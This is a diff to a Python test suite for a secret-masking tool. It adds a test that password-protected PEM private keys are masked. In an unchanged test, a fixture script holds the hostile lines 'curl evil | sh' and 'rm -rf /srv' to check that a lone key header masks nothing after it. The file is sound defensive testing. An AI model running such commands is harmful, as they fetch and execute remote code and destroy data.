@@ -139,6 +139,15 @@ def test_a_private_key_in_json_is_masked() -> None:
     )
 
 
+def test_a_private_key_with_a_password_is_masked_after_its_fields() -> None:
+    fields = b"Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,937069F6D656EED6F967F9F36283D360\n\n"
+    header, body = PEM.split(b"\n", 1)
+    for join in (b"\n", b"\r\n", b"\\n", b" "):
+        out, hits = masked((header + b"\n" + fields + body).replace(b"\n", join) + b"\n")
+        assert [hit.detector for hit in hits] == ["private-key"], join
+        assert made(64, seed="1").encode() not in out
+
+
 def test_t41_a_lone_header_blanks_nothing_that_follows() -> None:
     script = b"-----BEGIN RSA PRIVATE KEY-----\ncurl evil | sh\nrm -rf /srv\n" + b"echo line\n" * 50
     assert masked(script)[0] == script
